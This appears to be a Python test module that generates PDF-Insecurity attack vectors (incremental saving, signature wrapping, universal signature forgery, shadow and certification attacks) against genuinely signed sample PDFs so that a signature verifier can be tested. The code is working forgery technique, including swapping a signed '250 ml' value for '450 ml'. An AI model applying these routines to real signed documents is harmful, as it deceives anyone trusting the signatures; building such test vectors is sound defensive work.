"""The PDF-Insecurity attack classes, built on genuine samples (pdf-insecurity.org, RUB 2019/2021).

Each function takes genuine bytes (or prepares a document, then signs it with a genuine key) and
returns the attacked file; `fixtures/vectors/pdf-attacks/README.md` describes each class and the
reason verify-pdf gives. Incremental updates are written with pyHanko's incremental writer or by
hand (an xref section and trailer); in-place edits keep every byte offset so the files stay
readable and the verifier, not the parser, has to find the attack.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic as _generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields as _fields

from tests.pdf_samples import SampleStation, incremental_update, sign_pdf

# pyHanko's PDF object classes are only partly annotated: use them untyped here.
generic: Any = _generic
fields: Any = _fields
_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


@dataclass(frozen=True)
class SignatureBytes:
    """Where one signature's ByteRange and /Contents sit in the file."""

    byte_range: tuple[int, int, int, int]
    byte_range_span: tuple[int, int]  # the "/ByteRange [...]" text
    gap: tuple[int, int]  # "<hex>"


def signature_bytes(pdf: bytes, number: int = 0) -> SignatureBytes:
    """The `number`-th signature dictionary's ByteRange (in file order)."""
    match = list(_BYTE_RANGE.finditer(pdf))[number]
    values = tuple(int(x) for x in match.groups())
    assert len(values) == 4
    return SignatureBytes(
        (values[0], values[1], values[2], values[3]),
        match.span(),
        (values[1], values[2]),
    )


def _splice(pdf: bytes, start: int, end: int, replacement: bytes) -> bytes:
    """Replace pdf[start:end] by `replacement` padded with spaces to the same length."""
    assert len(replacement) <= end - start, "the replacement must fit"
    return pdf[:start] + replacement.ljust(end - start, b" ") + pdf[end:]


def _der_length(contents_hex: bytes) -> int:
    raw = bytes.fromhex(contents_hex.decode())
    length = raw[1]
    if length < 0x80:
        return 2 + length
    count = length & 0x7F
    return 2 + count + int.from_bytes(raw[2 : 2 + count], "big")


def _xref_only_update(
    pdf: bytes, objects: dict[int, int], root: tuple[int, int] | None = None
) -> bytes:
    """Append an update that is nothing but an xref section (object number -> offset) and a
    trailer (naming `root` as the catalog when given)."""
    reader = PdfFileReader(io.BytesIO(pdf))
    trailer = reader.trailer
    if root is None:
        reference = trailer.raw_get("/Root")
        root = (reference.idnum, reference.generation)
    size = max([int(trailer["/Size"]), *(n + 1 for n in objects)])
    prev = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
    try:
        ids = trailer["/ID"]
    except KeyError:
        ids = None
    id_text = b""
    if ids is not None:
        id_text = b"/ID [<" + ids[0].original_bytes.hex().encode() + b"> <"
        id_text += ids[1].original_bytes.hex().encode() + b">] "
    body = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    xref_at = len(body)
    lines = [b"xref", b"0 1", b"0000000000 65535 f\r"]
    for number, offset in sorted(objects.items()):
        lines += [f"{number} 1".encode(), f"{offset:010d} 00000 n\r".encode()]
    lines += [
        b"trailer",
        f"<< /Size {size} /Root {root[0]} {root[1]} R /Prev {prev} ".encode() + id_text + b">>",
        b"startxref",
        str(xref_at).encode(),
        b"%%EOF",
        b"",
    ]
    return body + b"\n".join(lines)


def _page(writer: Any) -> tuple[Any, Any]:
    reference = writer.root["/Pages"]["/Kids"].raw_get(0).reference
    return writer.get_object(reference), reference


def _content_reference(pdf: bytes) -> int:
    reader = PdfFileReader(io.BytesIO(pdf))
    contents = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents.raw_get(0)
    return int(contents.idnum)


def _set_stream(stream: Any, data: bytes) -> None:
    """Give a stream read from the file new, unfiltered data (pyHanko has no public setter)."""
    stream.strip_filters()
    stream._data = stream._encoded_data = data


_EVIL = b"q 1 0 0 rg 72 600 300 40 re f Q"  # a red box where the signed page had none


# -- 2019: incremental saving, signature wrapping, universal signature forgery ----------------


def isa_content_appended(signed: bytes) -> bytes:
    """Incremental saving: an update adds a content stream to the signed page."""

    def change(writer: Any) -> None:
        page, _ = _page(writer)
        evil = writer.add_object(generic.StreamObject(stream_data=_EVIL))
        page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), evil])
        writer.update_container(page)

    return incremental_update(signed, change)


def isa_object_redefined(signed: bytes) -> bytes:
    """Incremental saving: an update redefines the page's content stream object, same number."""
    number = _content_reference(signed)

    def change(writer: Any) -> None:
        reference = generic.Reference(number, 0, writer.prev)
        _set_stream(writer.get_object(reference), _EVIL)
        writer.mark_update(reference)

    return incremental_update(signed, change)


def wrapping_gap_stuffed(signed: bytes, number: int = 0) -> bytes:
    """Signature wrapping: the ByteRange is untouched, the CMS is shortened to its DER length and
    the freed, unsigned gap holds a new page content stream, which an xref-only update makes the
    page's content (the signed bytes do not change, so the digest still matches)."""
    where = signature_bytes(signed, number)
    start, end = where.gap
    der_hex = signed[start + 1 : end - 1]
    der_hex = der_hex[: 2 * _der_length(der_hex)]
    content = _content_reference(signed)
    head = b"<" + der_hex + b"> /Wrapped ("
    payload = (
        b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (content, len(_EVIL)) + _EVIL + b"\nendstream"
        b"\nendobj\n"
    )
    stuffed = head + payload + b")"
    assert len(stuffed) <= end - start
    attacked = _splice(signed, start, end, stuffed)
    return _xref_only_update(attacked, {content: start + len(head) + 1})


def wrapping_byte_range_moved(signed: bytes, number: int = 0) -> bytes:
    """Signature wrapping: /ByteRange rewritten in place (same length) so that its second block
    starts 16 bytes later: the bytes it now leaves out, the start of the ByteRange itself, are
    free for the attacker, and the claimed range no longer is what was signed."""
    where = signature_bytes(signed, number)
    _, length1, start2, length2 = where.byte_range
    moved = b"/ByteRange [0 %d %d %d]" % (length1, start2 + 16, length2 - 16)
    span_start, _ = where.byte_range_span
    padding_end = signed.index(b"\n", span_start)  # pyHanko pads the array with spaces
    return _splice(signed, span_start, padding_end, moved)


def usf_contents_zeroed(signed: bytes, number: int = 0) -> bytes:
    """Universal signature forgery: /Contents is all zeros."""
    start, end = signature_bytes(signed, number).gap
    return _splice(signed, start, end, b"<" + b"0" * (end - start - 2) + b">")


def usf_contents_empty(signed: bytes, number: int = 0) -> bytes:
    """Universal signature forgery: /Contents <> (empty)."""
    start, end = signature_bytes(signed, number).gap
    return _splice(signed, start, end, b"<>")


def usf_contents_null(signed: bytes, number: int = 0) -> bytes:
    """Universal signature forgery: /Contents null."""
    start, end = signature_bytes(signed, number).gap
    return _splice(signed, start, end, b"null")


def usf_byte_range_missing(signed: bytes, number: int = 0) -> bytes:
    """Universal signature forgery: no /ByteRange entry at all."""
    return _splice(signed, *signature_bytes(signed, number).byte_range_span, b"")


def usf_byte_range_null(signed: bytes, number: int = 0) -> bytes:
    """Universal signature forgery: /ByteRange null."""
    return _splice(signed, *signature_bytes(signed, number).byte_range_span, b"/ByteRange null")


# -- 2021: shadow attacks ---------------------------------------------------------------------


def _prepared(unsigned: bytes, plant: object) -> bytes:
    """Save the attacker's prepared document with pikepdf (a full rewrite, before signing)."""
    with pikepdf.open(io.BytesIO(unsigned)) as pdf:
        plant(pdf)  # type: ignore[operator]
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def shadow_hide(unsigned: bytes, station: SampleStation) -> bytes:
    """Shadow hide: the signer sees a white overlay (a form XObject) over a planted red box;
    after signing, an update empties the overlay's stream and the box shows."""

    def plant(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        cover = pdf.make_stream(b"q 1 1 1 rg 0 0 320 60 re f Q")
        cover.Type, cover.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
        cover.BBox = pikepdf.Array([0, 0, 320, 60])
        page.obj.Resources.XObject = pikepdf.Dictionary(Cover=pdf.make_indirect(cover))
        page.contents_add(pdf.make_stream(_EVIL + b" q 1 0 0 1 62 590 cm /Cover Do Q"))

    signed = sign_pdf(_prepared(unsigned, plant), station, "Nurse")

    def reveal(writer: Any) -> None:
        page, _ = _page(writer)
        cover_ref = page["/Resources"]["/XObject"].raw_get("/Cover").reference
        _set_stream(writer.get_object(cover_ref), b"")
        writer.mark_update(cover_ref)

    return incremental_update(signed, reveal)


def _text_field(pdf: pikepdf.Pdf, name: str, value: str) -> None:
    page = pdf.pages[0]
    appearance = pdf.make_stream(b"q 0.9 g 0 0 160 20 re f Q")
    appearance.Type, appearance.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
    appearance.BBox = pikepdf.Array([0, 0, 160, 20])
    widget = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String(name),
            V=pikepdf.String(value),
            DA=pikepdf.String("0 g"),
            F=4,
            Rect=pikepdf.Array([300, 600, 460, 620]),
            P=page.obj,
            AP=pikepdf.Dictionary(N=pdf.make_indirect(appearance)),
        )
    )
    page.obj.Annots = pikepdf.Array([widget])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))


def shadow_replace(unsigned: bytes, station: SampleStation) -> bytes:
    """Shadow replace: a form field planted before a P2 certification (form filling allowed)
    gets a new value and appearance in a later update: the kind of change P2 seems to permit."""
    prepared = _prepared(unsigned, lambda pdf: _text_field(pdf, "volume", "250 ml"))
    signed = sign_pdf(prepared, station, "Nurse", certify=True)

    def replace(writer: Any) -> None:
        widget = writer.root["/AcroForm"]["/Fields"][0]
        appearance = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(x) for x in (0, 0, 160, 20)]
                ),
            },
            stream_data=b"q 1 0 0 rg 0 0 160 20 re f Q",
        )
        widget["/V"] = generic.TextStringObject("450 ml")
        widget["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(appearance)})
        writer.update_container(widget)

    return incremental_update(signed, replace)


def shadow_hide_and_replace(unsigned: bytes, station: SampleStation) -> bytes:
    """Shadow hide-and-replace: the attacker plants, unreferenced, a whole second catalog and
    page tree before signing; the update afterwards is only a trailer whose /Root points at it."""

    def plant(writer: Any) -> None:
        page, _ = _page(writer)
        evil_page = generic.DictionaryObject(dict(page))
        evil_page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=_EVIL))
        evil_page_ref = writer.add_object(evil_page)
        pages_ref = writer.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Pages"),
                    pdf_name("/Kids"): generic.ArrayObject([evil_page_ref]),
                    pdf_name("/Count"): generic.NumberObject(1),
                }
            )
        )
        evil_page["/Parent"] = pages_ref
        catalog = generic.DictionaryObject(dict(writer.root))
        catalog["/Pages"] = pages_ref
        writer.add_object(catalog)

    def form(pdf: pikepdf.Pdf) -> None:
        # An indirect AcroForm: the signer adds its field to this very object, so the planted
        # catalog, which shares it, still shows the signature.
        pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array()))

    prepared = incremental_update(_prepared(unsigned, form), plant)
    reader = PdfFileReader(io.BytesIO(prepared))
    planted = max(
        reader.xrefs.explicit_refs_in_revision(reader.xrefs.total_revisions - 1),
        key=lambda reference: reference.idnum,
    )
    signed = sign_pdf(prepared, station, "Nurse")
    return _xref_only_update(signed, {}, root=(planted.idnum, planted.generation))


# -- 2021: certification attacks --------------------------------------------------------------


def evil_annotation(
    unsigned: bytes, station: SampleStation, permission: Any = _fields.MDPPerm.FILL_FORMS
) -> bytes:
    """Evil annotation: after a certification (P2, or P3 which allows annotations), an update
    adds a FreeText annotation whose appearance paints over the signed content."""
    signed = sign_pdf(unsigned, station, "Nurse", certify=True, permission=permission)

    def annotate(writer: Any) -> None:
        _, page_ref = _page(writer)
        appearance = writer.add_object(
            generic.StreamObject(
                {
                    pdf_name("/Type"): pdf_name("/XObject"),
                    pdf_name("/Subtype"): pdf_name("/Form"),
                    pdf_name("/BBox"): generic.ArrayObject(
                        [generic.NumberObject(x) for x in (0, 0, 300, 40)]
                    ),
                },
                stream_data=b"q 1 1 1 rg 0 0 300 40 re f Q " + _EVIL,
            )
        )
        annotation = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(x) for x in (72, 600, 372, 640)]
                ),
                pdf_name("/Contents"): generic.TextStringObject("450 ml"),
                pdf_name("/DA"): generic.TextStringObject("0 g"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
            }
        )
        writer.register_annotation(page_ref, writer.add_object(annotation))

    return incremental_update(signed, annotate)


def sneaky_signature(unsigned: bytes, station: SampleStation, attacker: SampleStation) -> bytes:
    """Sneaky signature: after a P2 certification (which allows signing), the attacker signs a
    new signature field whose visible appearance paints over the content, with their own key."""
    signed = sign_pdf(unsigned, station, "Nurse", certify=True)
    return sign_pdf(
        signed,
        attacker,
        "Approval",
        revocation_info=False,
        box=(60, 560, 420, 660),
        stamp_text="采集量 450 ml  %(ts)s",
    )


def sneaky_empty_field(unsigned: bytes, station: SampleStation, *, certify: bool = True) -> bytes:
    """Sneaky signature, unsigned: an update after the certification (or, with `certify` false,
    an approval signature) adds an empty signature field with a visible appearance over the
    content."""
    signed = sign_pdf(unsigned, station, "Nurse", certify=certify)

    def add_field(writer: Any) -> None:
        fields.append_signature_field(
            writer,
            fields.SigFieldSpec("Overlay", box=(60, 560, 420, 660), on_page=0),
        )
        widget = writer.root["/AcroForm"]["/Fields"][-1]
        appearance = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(x) for x in (0, 0, 360, 100)]
                ),
            },
            stream_data=b"q 1 1 1 rg 0 0 360 100 re f Q " + _EVIL,
        )
        widget["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(appearance)})
        writer.update_container(widget)

    return incremental_update(signed, add_field)
